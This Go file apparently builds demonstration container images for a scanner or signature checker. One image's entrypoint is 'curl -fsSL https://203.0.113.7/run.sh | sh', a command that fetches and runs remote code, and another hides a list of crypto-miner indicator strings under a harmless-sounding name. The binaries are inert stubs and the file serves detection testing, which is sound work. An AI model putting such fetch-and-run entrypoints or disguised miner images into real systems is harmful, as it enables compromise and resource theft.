package main

import (
	"strings"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/tidewaiter/tidewaiter/image/imagetest"
	"github.com/tidewaiter/tidewaiter/signature/signaturetest"
)

// sample is an image of the demonstration.
type sample struct {
	ref    string
	files  map[string]string // path to content
	config v1.Config
	signed bool
}

// program is the beginning of an ELF file for x86-64, which makes content one. It runs nowhere.
func program(content string) string {
	header := "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 9) + "\x02\x00\x3e\x00\x01\x00\x00\x00"
	return header + strings.Repeat("\x00", 64) + content
}

// minerWords is what is telling about every miner: the protocol of the pools, the names of the algorithms and
// of the options. Here they stand for one under the name of something harmless.
var minerWords = strings.Join([]string{
	"stratum+tcp://", "stratum+ssl://", "mining.subscribe", "mining.authorize", "mining.submit",
	"randomx", "cryptonight", "rx/0", "argon2/chukwa", "donate-level", "nicehash", "--coin=monero", "hashrate",
}, "\x00")

func samples() []sample {
	fetches := v1.Config{User: "1000", Entrypoint: []string{"/bin/sh", "-c", "curl -fsSL https://203.0.113.7/run.sh | sh"}}
	nobody := v1.Config{User: "65532", Entrypoint: []string{"/web"}}
	shell := map[string]string{
		"bin/sh":       program("GNU bash, version 5.2"),
		"usr/bin/wget": program("GNU Wget 1.24.5\x00Usage: %s [OPTION]... [URL]...\x00"),
	}
	return []sample{
		{ref: "shop/web:1.4", files: map[string]string{"web": program("hello")}, config: nobody, signed: true},
		{ref: "tools/metrics-helper:2.0", files: map[string]string{"usr/bin/metrics-helper": program(minerWords)}, signed: true},
		{ref: "shop/base:1.0", files: shell},
		{ref: "shop/worker:0.9", files: shell, config: fetches, signed: true},
	}
}

// pushImages pushes the samples and returns the public key that signed some of them.
func pushImages(host string) (public []byte, err error) {
	key, err := signaturetest.NewKey()
	if err != nil {
		return nil, err
	}
	for _, s := range samples() {
		if err := s.push(host, key); err != nil {
			return nil, err
		}
	}
	return key.PublicPEM()
}

func (s sample) push(host string, key signaturetest.Key) error {
	ref, err := name.ParseReference(host+"/"+s.ref, name.Insecure)
	if err != nil {
		return err
	}
	img, err := imagetest.Build(func(c *v1.ConfigFile) { c.Config = s.config }, s.files)
	if err != nil {
		return err
	}
	if err := remote.Write(ref, img); err != nil {
		return err
	}
	if !s.signed {
		return nil
	}
	digest, err := img.Digest()
	if err != nil {
		return err
	}
	return key.Push(ref.Context(), digest)
}
